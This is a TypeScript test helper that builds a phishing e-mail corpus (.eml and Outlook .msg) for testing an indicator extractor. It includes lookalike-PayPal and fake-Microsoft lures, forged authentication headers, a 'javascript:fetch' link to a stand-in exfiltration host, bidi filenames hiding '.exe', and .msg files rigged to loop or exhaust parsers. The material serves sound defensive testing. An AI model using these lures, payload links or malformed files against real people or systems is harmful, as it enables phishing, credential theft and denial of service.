/**
 * The e-mails of the files corpus (issue 35), built at test time: no binary fixture is committed,
 * and each message says in code what it holds. `.eml` files are written as MIME text here (each
 * part's encoding chosen on purpose: a base64 HTML body, a quoted-printable text body); `.msg`
 * files are compound files written with the `cfb` package (a dev dependency) holding the MAPI
 * property streams Outlook writes and msgreader reads (MS-OXMSG); the PDF attachment comes from
 * tests/helpers/corpus-docs.ts (`pdfWith`, pdf-lib).
 *
 * The indicators are written in full (public addresses, real TLDs): the extractor leaves out
 * reserved ranges and made-up suffixes, so documentation addresses would prove nothing. Nothing
 * here is ever contacted: the tests read files, they send nothing.
 */
import { Buffer } from 'node:buffer';
import CFB, { type CFB$Container } from 'cfb';
import { pdfWith } from './corpus-docs.js';
import { mulberry32 } from './prng.js';

const CRLF = '\r\n';

/** Lines joined with CRLF, as a message on the wire. */
function lines(...parts: string[]): string {
  return parts.join(CRLF);
}

/** `bytes` as base64 lines of 76 characters (RFC 2045). */
function base64Lines(bytes: Uint8Array | string): string {
  const encoded = Buffer.from(bytes).toString('base64');
  return encoded.replace(/.{1,76}/g, (line) => `${line}${CRLF}`).trimEnd();
}

// ---------------------------------------------------------------------------------------------
// The phishing e-mail

/** What the phishing e-mail's parts hold, for the tests to compare with. */
export const PHISH = {
  name: 'reported-phish.eml',
  authservId: 'mx1.victim-corp.com',
  /** The topmost Authentication-Results (the receiving system's). */
  auth: { spf: 'softfail', dkim: 'fail', dmarc: 'fail' },
  /** The HTML body, sent base64-encoded. */
  html: [
    '<!DOCTYPE html><html><head><title>Account notice</title>',
    '<style>.logo { background: url(https://tracker-css.com/pixel.png) }</style>',
    '<script>var beacon = "https://script-only.com/collect";</script></head>',
    '<body><p>Dear customer, your account at <b>pay</b><b>pal.com</b> has been limited.</p>',
    '<p><a href="https://evil-login.com/paypal/verify?id=7">https://www.paypal.com/signin</a></p>',
    '<p><a href="http://185.234.72.10/invoice/8841">  View your\n invoice </a></p>',
    '<p><a href=" https://paypal.com.account-check.net/login ">paypal.com</a></p>',
    '<p><a href="https://www.paypal.com/help">www.paypal.com/help</a></p>',
    '<p><a href="mailto:refunds@reply-harvest.net?subject=refund">Contact us</a></p>',
    '<p><a href="javascript:alert(document.cookie)">Unsubscribe</a></p>',
    '<p><a href="https://img-link.net/go"><img src="https://remote-image.com/logo.png" alt="PayPal logo"></a></p>',
    '<!-- a comment naming comment-only.com is no text shown -->',
    '<p>Reference: 44d88612fea8a8f36de82e1278abb02f</p>',
    '</body></html>',
  ].join('\n'),
  text: 'Dear customer, verify your account at https://evil-login.com/paypal/verify?id=7 today.\nSupport line host: 91.219.236.166\n',
  pdf: { name: 'invoice.pdf', pages: ['Invoice 8841', 'Pay the balance to c2.bad-actor.net\nWire desk 193.42.33.7'] },
  forwarded: {
    name: 'forwarded.eml',
    raw: lines(
      'From: "Chief Executive" <ceo@lookalike-corp.com>',
      'To: alice@victim-corp.com',
      'Subject: Fwd: urgent wire transfer',
      'Message-ID: <fwd.20231230@mail.lookalike-corp.com>',
      'Authentication-Results: inner-forged.com; spf=pass; dkim=pass; dmarc=pass',
      'Content-Type: text/plain; charset=utf-8',
      '',
      'Please pay today through https://second-stage.org/pay and confirm to 77.91.124.20.',
      '',
    ),
  },
};

/** The reported phishing e-mail, and the PDF attachment's bytes (for its hashes). */
export async function phishingEml(): Promise<{ bytes: Uint8Array; pdf: Uint8Array; forwarded: Uint8Array }> {
  const pdf = await pdfWith({ pages: PHISH.pdf.pages });
  const forwarded = Buffer.from(PHISH.forwarded.raw);
  const raw = lines(
    'Return-Path: <bounce-7731@bounce-mailer.org>',
    // Hop 1, the topmost: added by the receiving system (whose own name is in `by`).
    'Received: from mail-relay.paypa1-secure.com (mail-relay.paypa1-secure.com [45.33.32.156])',
    '\tby mx1.victim-corp.com (Postfix) with ESMTPS id 4Q2xYz1234',
    '\tfor <bob@other-recipient.org>; Tue, 02 Jan 2024 10:00:05 +0000 (UTC)',
    `Authentication-Results: ${PHISH.authservId};`,
    '\tspf=softfail (mx1.victim-corp.com: domain of transitioning bounce-7731@bounce-mailer.org does not designate 45.33.32.156 as permitted sender) smtp.mailfrom=bounce-7731@bounce-mailer.org;',
    '\tdkim=fail (signature did not verify) header.d=paypa1-secure.com; dkim=pass header.d=bulk-sender.io;',
    '\tdmarc=fail (p=REJECT sp=REJECT dis=QUARANTINE) header.from=paypa1-secure.com',
    // Hop 2: a private address and a made-up suffix; the comment's "from" starts no clause.
    'Received: from internal-gw.corp.lan (unknown [10.20.30.40])',
    '\tby mail-relay.paypa1-secure.com (Postfix, from userid 1000) with ESMTP id 77AB;',
    '\tTue, 02 Jan 2024 10:00:03 +0000',
    // Hop 3: a public IPv6 address, a private one (unique local).
    'Received: from origin.bulk-sender.io ([IPv6:2a03:2880:f12f:83:face:b00c:0:25de])',
    '\tby internal-gw.corp.lan ([IPv6:fd00::25]) with ESMTPSA id zz9; Tue, 02 Jan 2024 10:00:01 +0000',
    // Hop 4, the first (nearest the sender): private, loopback, shared; the `via` is not read.
    'Received: from sender-pc ([192.168.1.23] helo=localhost) by origin.bulk-sender.io ([127.0.0.1])',
    '\tvia 100.64.0.7 with SMTP id q1; Tue, 02 Jan 2024 10:00:00 +0000',
    // Written by the sender: lower than the receiving system's, so not read.
    'Authentication-Results: forged-auth.paypa1-secure.com; spf=pass; dkim=pass; dmarc=pass',
    'From: "PayPal Service" <service@paypa1-secure.com>',
    'Sender: mailer@bulk-sender.io',
    'Reply-To: =?UTF-8?B?UGF5UGFsIEJpbGxpbmc=?= <billing-help@reply-harvest.net>',
    'To: Alice <alice@victim-corp.com>',
    'Subject: =?UTF-8?B?WW91ciBhY2NvdW50IGlzIGxpbWl0ZWQ=?=',
    'Date: Tue, 02 Jan 2024 10:00:00 +0000',
    'Message-ID: <20240102100000.4Q2xYz@mailer.paypa1-secure.com>',
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary="==MIXED-1=="',
    '',
    'This is a multi-part message in MIME format.',
    '--==MIXED-1==',
    'Content-Type: multipart/alternative; boundary="==ALT-1=="',
    '',
    '--==ALT-1==',
    'Content-Type: text/plain; charset=utf-8',
    'Content-Transfer-Encoding: quoted-printable',
    '',
    PHISH.text.replace(/=/g, '=3D').replace(/\n/g, CRLF),
    '--==ALT-1==',
    'Content-Type: text/html; charset=utf-8',
    'Content-Transfer-Encoding: base64',
    '',
    base64Lines(PHISH.html),
    '--==ALT-1==--',
    '',
    '--==MIXED-1==',
    `Content-Type: application/pdf; name="${PHISH.pdf.name}"`,
    `Content-Disposition: attachment; filename="${PHISH.pdf.name}"`,
    'Content-Transfer-Encoding: base64',
    '',
    base64Lines(pdf),
    '--==MIXED-1==',
    'Content-Type: message/rfc822',
    `Content-Disposition: attachment; filename="${PHISH.forwarded.name}"`,
    '',
    PHISH.forwarded.raw,
    '--==MIXED-1==--',
    '',
  );
  return { bytes: Buffer.from(raw), pdf, forwarded };
}

// ---------------------------------------------------------------------------------------------
// Messages within messages

/** A message of one text line, with `attachment` (an e-mail's raw text) attached as message/rfc822. */
export function emlWith(text: string, attachment?: { name: string; raw: string }, boundary = 'b'): string {
  const head = ['From: relay@nested-mail.com', 'To: alice@victim-corp.com', 'Subject: nested', 'MIME-Version: 1.0'];
  if (!attachment) return lines(...head, 'Content-Type: text/plain; charset=utf-8', '', text, '');
  return lines(
    ...head,
    `Content-Type: multipart/mixed; boundary="${boundary}"`,
    '',
    `--${boundary}`,
    'Content-Type: text/plain; charset=utf-8',
    '',
    text,
    `--${boundary}`,
    'Content-Type: message/rfc822',
    `Content-Disposition: attachment; filename="${attachment.name}"`,
    '',
    attachment.raw,
    `--${boundary}--`,
    '',
  );
}

/**
 * `levels` messages each attached to the one above: the file itself names `level-0.com`, its
 * attachment (`level-1.eml`) `level-1.com`, and so on. Each level has a boundary of its own (a
 * parser reading the outer message must not take an inner boundary for its own).
 */
export function nestedEml(levels: number): Uint8Array {
  let raw = emlWith(`innermost level-${levels - 1}.com`);
  for (let level = levels - 2; level >= 0; level--) raw = emlWith(`this is level-${level}.com`, { name: `level-${level + 1}.eml`, raw }, `b${level}`);
  return Buffer.from(raw);
}

// ---------------------------------------------------------------------------------------------
// Outlook .msg

export interface MsgSpec {
  subject?: string;
  body?: string;
  /** The HTML body, stored as bytes (PidTagHtml) in UTF-8 with code page 65001. */
  html?: string;
  /** The transport headers (PidTagTransportMessageHeaders). */
  headers?: string;
  senderName?: string;
  senderEmail?: string;
  senderSmtpAddress?: string;
  attachments?: Array<{ filename: string; content: Uint8Array } | { message: MsgSpec; displayName: string }>;
}

const PROP_FLAGS = 0x6; // readable, writable

/** A UTF-16LE string stream, NUL-terminated as Outlook writes them. */
function unicode(text: string): Buffer {
  return Buffer.from(`${text}\0`, 'utf16le');
}

/**
 * A `__properties_version1.0` stream: its header (`headerSize` bytes: 32 for the message itself,
 * 24 for an attached message, 8 for an attachment or recipient), then one 16-byte entry per
 * property: tag, flags, then the value (fixed-size ones) or the size of the stream holding it.
 */
function propertiesStream(headerSize: number, props: Array<{ tag: number; value?: number; size?: number }>, counts?: { attachments: number }): Buffer {
  const out = Buffer.alloc(headerSize + 16 * props.length);
  if (headerSize === 32 && counts) {
    out.writeUInt32LE(counts.attachments, 12); // next attachment id
    out.writeUInt32LE(counts.attachments, 20); // attachment count
  }
  props.forEach((prop, i) => {
    const at = headerSize + 16 * i;
    out.writeUInt32LE(prop.tag >>> 0, at);
    out.writeUInt32LE(PROP_FLAGS, at + 4);
    out.writeUInt32LE((prop.value ?? prop.size ?? 0) >>> 0, at + 8);
  });
  return out;
}

/** Adds the streams of one message (`spec`) under `prefix` ('' for the file's own message). */
function addMessage(container: CFB$Container, prefix: string, spec: MsgSpec, headerSize: number): void {
  const streams: Array<{ tag: number; data: Buffer }> = [];
  const text = (id: number, value: string | undefined) => {
    if (value !== undefined) streams.push({ tag: (id << 16) | 0x001f, data: unicode(value) });
  };
  text(0x001a, 'IPM.Note');
  text(0x0037, spec.subject);
  text(0x1000, spec.body);
  text(0x007d, spec.headers);
  text(0x0c1a, spec.senderName);
  if (spec.senderEmail !== undefined) text(0x0c1e, 'SMTP');
  text(0x0c1f, spec.senderEmail);
  text(0x5d01, spec.senderSmtpAddress);
  if (spec.html !== undefined) streams.push({ tag: (0x1013 << 16) | 0x0102, data: Buffer.from(spec.html, 'utf8') });
  for (const { tag, data } of streams) {
    CFB.utils.cfb_add(container, `${prefix}/__substg1.0_${tag.toString(16).toUpperCase().padStart(8, '0')}`, data);
  }
  const attachments = spec.attachments ?? [];
  const props = [
    ...streams.map(({ tag, data }) => ({ tag, size: data.length })),
    { tag: (0x3fde << 16) | 0x0003, value: 65001 }, // PidTagInternetCodepage: UTF-8
  ];
  CFB.utils.cfb_add(container, `${prefix}/__properties_version1.0`, propertiesStream(headerSize, props, { attachments: attachments.length }));
  attachments.forEach((attachment, i) => {
    const folder = `${prefix}/__attach_version1.0_#${i.toString(16).toUpperCase().padStart(8, '0')}`;
    if ('message' in attachment) {
      // An attached Outlook item: a storage (type 000D) holding the item's own streams.
      CFB.utils.cfb_add(container, `${folder}/__substg1.0_3001001F`, unicode(attachment.displayName));
      CFB.utils.cfb_add(container, `${folder}/__properties_version1.0`, propertiesStream(8, [{ tag: (0x3705 << 16) | 0x0003, value: 5 }]));
      addMessage(container, `${folder}/__substg1.0_3701000D`, attachment.message, 24);
    } else {
      const name = unicode(attachment.filename);
      CFB.utils.cfb_add(container, `${folder}/__substg1.0_37010102`, Buffer.from(attachment.content));
      CFB.utils.cfb_add(container, `${folder}/__substg1.0_3707001F`, name);
      CFB.utils.cfb_add(
        container,
        `${folder}/__properties_version1.0`,
        propertiesStream(8, [
          { tag: (0x3705 << 16) | 0x0003, value: 1 }, // PidTagAttachMethod: by value
          { tag: (0x3701 << 16) | 0x0102, size: attachment.content.byteLength },
          { tag: (0x3707 << 16) | 0x001f, size: name.length },
        ]),
      );
    }
  });
}

/** An Outlook `.msg` holding `spec`. */
export function outlookMsg(spec: MsgSpec): Uint8Array {
  const container = CFB.utils.cfb_new();
  addMessage(container, '', spec, 32);
  return new Uint8Array(CFB.write(container, { type: 'buffer' }) as Buffer);
}

/** The transport headers of the corpus's `.msg`: a Received chain and Authentication-Results. */
export const MSG_HEADERS = lines(
  'Received: from outbound.invoice-portal.net (outbound.invoice-portal.net [185.225.17.93])',
  '\tby mx2.victim-corp.com with ESMTPS id 991; Wed, 03 Jan 2024 09:00:02 +0000',
  'Received: from builder ([172.16.4.2]) by outbound.invoice-portal.net with ESMTP id 17; Wed, 03 Jan 2024 09:00:00 +0000',
  'Authentication-Results: mx2.victim-corp.com; spf=pass smtp.mailfrom=invoice-portal.net; dkim=none; dmarc=fail header.from=microsoft-billing.com',
  'From: "Microsoft Billing" <billing@microsoft-billing.com>',
  'Reply-To: <accounts@invoice-portal.net>',
  'Subject: Invoice overdue',
  'Message-ID: <msg-991@outbound.invoice-portal.net>',
  'MIME-Version: 1.0',
  '',
);

/** The corpus's `.msg`: headers, a body, an HTML body with a mismatched link, a file and an Outlook item attached. */
export function phishingMsg(): { bytes: Uint8Array; attachment: Uint8Array } {
  const attachment = Buffer.from('Remittance details\r\nPortal: https://remit-portal.org/pay\r\nServer 5.188.206.14\r\n');
  const bytes = outlookMsg({
    subject: 'Invoice overdue',
    headers: MSG_HEADERS,
    senderName: 'Microsoft Billing',
    senderEmail: 'billing@microsoft-billing.com',
    body: 'Your invoice is overdue. Pay at https://pay-invoice-now.com/inv/991 before Friday.',
    html: '<html><body><p>Your invoice is <i>overdue</i>.</p><p><a href="https://pay-invoice-now.com/inv/991">https://account.microsoft.com/billing</a></p></body></html>',
    attachments: [
      { filename: 'remittance.txt', content: attachment },
      { displayName: 'Earlier message', message: { subject: 'Earlier message', body: 'The first notice came from notice-sender.net.', senderEmail: 'first@notice-sender.net' } },
    ],
  });
  return { bytes, attachment };
}

// ---------------------------------------------------------------------------------------------
// Malformed and hostile files

/** The phishing e-mail cut in the middle of its base64 HTML body (no closing boundary). */
export async function truncatedEml(): Promise<Uint8Array> {
  const { bytes } = await phishingEml();
  const text = Buffer.from(bytes).toString('latin1');
  const cut = text.indexOf('Content-Transfer-Encoding: base64') + 200;
  return Buffer.from(text.slice(0, cut), 'latin1');
}

/** Seeded noise that is no e-mail; without NUL bytes unless asked (a NUL makes any file a binary). */
export function garbageBytes(length: number, seed: number, withNul = false): Uint8Array {
  const random = mulberry32(seed);
  const out = new Uint8Array(length);
  for (let i = 0; i < length; i++) out[i] = withNul ? Math.floor(random() * 256) : 1 + Math.floor(random() * 255);
  return out;
}

/** A message whose `Received` header and From display name are each about `bytes` long. */
export function hugeHeaderEml(bytes = 1024 * 1024): Uint8Array {
  const hops = Math.ceil(bytes / 64);
  const received = Array.from({ length: hops }, (_, i) => `from h${i}.huge-hop.net ([45.${i % 200}.${(i >> 8) % 200}.${i % 250 + 1}])`).join(CRLF + '\t');
  return Buffer.from(
    lines(
      `Received: ${received} by mx.victim-corp.com; Tue, 02 Jan 2024 10:00:00 +0000`,
      `From: "${'A'.repeat(bytes)}" <bulk@huge-header.com>`,
      'Subject: big',
      '',
      'body naming after-huge-header.com',
      '',
    ),
  );
}

/** A message with more than 2 MiB of headers (postal-mime's limit). */
export function oversizedHeaderEml(): Uint8Array {
  return Buffer.from(lines('From: a@oversized.com', `X-Filler: ${'x'.repeat(3 * 1024 * 1024)}`, 'Subject: too big', '', 'body', ''));
}

/**
 * Control and bidi characters where an analyst reads them: a display name with a terminal escape
 * and a right-to-left override, a link text with isolates and a BEL, an attachment's name whose
 * override hides `.exe` (RFC 2231 encoded).
 */
export const BIDI_EML = Buffer.from(
  lines(
    'From: "\u202Egnp.exe\u001b[2J PayPal\u0007" <sender@bidi-trick.com>',
    'To: alice@victim-corp.com',
    'Subject: controls',
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary="c"',
    '',
    '--c',
    'Content-Type: text/html; charset=utf-8',
    '',
    '<a href="https://bidi-trick.com/x">\u2066Click\u2069 \u202Eereh\u202C\u0007\u001b[31m</a>',
    '<a href="https://long-text.com/">' + 'very long link text '.repeat(50) + '</a>',
    '--c',
    "Content-Type: application/octet-stream",
    "Content-Disposition: attachment; filename*=utf-8''invoice%E2%80%AEfdp.exe",
    'Content-Transfer-Encoding: base64',
    '',
    base64Lines('MZ not really an executable'),
    '--c--',
    '',
  ),
  'utf8',
);

/** Links that are no observables: `javascript:` (one with a tab inside the scheme) and `data:` URIs. */
export const SCRIPT_LINKS_EML = Buffer.from(
  lines(
    'From: x@script-links.com',
    'Subject: links',
    'Content-Type: text/html; charset=utf-8',
    '',
    '<a href="javascript:fetch(\'https://js-exfil.com/steal\')">one</a>',
    '<a href="java\tscript:alert(1)">two</a>',
    `<a href="data:text/html;base64,${Buffer.from('<script>location="https://data-uri-target.com"</script>').toString('base64')}">three</a>`,
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    '<a href="https://plain-link.com/">four</a>',
    '',
  ),
);

/** `depth` multiparts, each the only part of the one above. */
export function deepMultipartEml(depth = 1000): Uint8Array {
  const parts = ['From: deep@deep-mime.com', 'Subject: deep', 'Content-Type: multipart/mixed; boundary="d0"', ''];
  for (let i = 1; i < depth; i++) parts.push(`--d${i - 1}`, `Content-Type: multipart/mixed; boundary="d${i}"`, '');
  parts.push(`--d${depth - 1}`, 'Content-Type: text/plain', '', 'deepest text naming deepest-part.com', `--d${depth - 1}--`);
  for (let i = depth - 2; i >= 0; i--) parts.push(`--d${i}--`);
  return Buffer.from(lines(...parts, ''));
}

/** An S/MIME encrypted message (enveloped-data): nothing of its body can be read. */
export const SMIME_EML = Buffer.from(
  lines(
    'From: secret@smime-sender.com',
    'To: alice@victim-corp.com',
    'Subject: encrypted',
    'MIME-Version: 1.0',
    'Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"',
    'Content-Disposition: attachment; filename="smime.p7m"',
    'Content-Transfer-Encoding: base64',
    '',
    base64Lines(garbageBytes(600, 7, true)),
    '',
  ),
);

/** The corpus's `.msg` with its allocation table pointing the directory's sector at itself (msgreader would loop). */
export function loopingMsg(): Uint8Array {
  const bytes = Buffer.from(outlookMsg({ subject: 'loop', body: 'never read' }));
  const sectorSize = bytes[30] === 12 ? 4096 : 512;
  const directory = bytes.readInt32LE(0x30);
  const fatSector = bytes.readInt32LE(0x4c);
  bytes.writeInt32LE(directory, (fatSector + 1) * sectorSize + 4 * directory);
  return new Uint8Array(bytes);
}

/** The corpus's `.msg` whose first directory entry is its own left sibling (a loop in the directory tree). */
export function directoryLoopMsg(): Uint8Array {
  const bytes = Buffer.from(outlookMsg({ subject: 'loop', body: 'never read' }));
  const sectorSize = bytes[30] === 12 ? 4096 : 512;
  const directory = (bytes.readInt32LE(0x30) + 1) * sectorSize;
  const child = bytes.readInt32LE(directory + 0x4c);
  bytes.writeInt32LE(child, directory + child * 128 + 0x44);
  return new Uint8Array(bytes);
}

/** The corpus's `.msg` with a stream claiming 2 GB. */
export function hugeStreamMsg(): Uint8Array {
  const bytes = Buffer.from(outlookMsg({ subject: 'huge', body: 'a body' }));
  const sectorSize = bytes[30] === 12 ? 4096 : 512;
  const directory = (bytes.readInt32LE(0x30) + 1) * sectorSize;
  for (let entry = 1; entry < sectorSize / 128; entry++) {
    if (bytes[directory + entry * 128 + 0x42] === 2) {
      bytes.writeInt32LE(0x7fff0000, directory + entry * 128 + 0x78);
      break;
    }
  }
  return new Uint8Array(bytes);
}
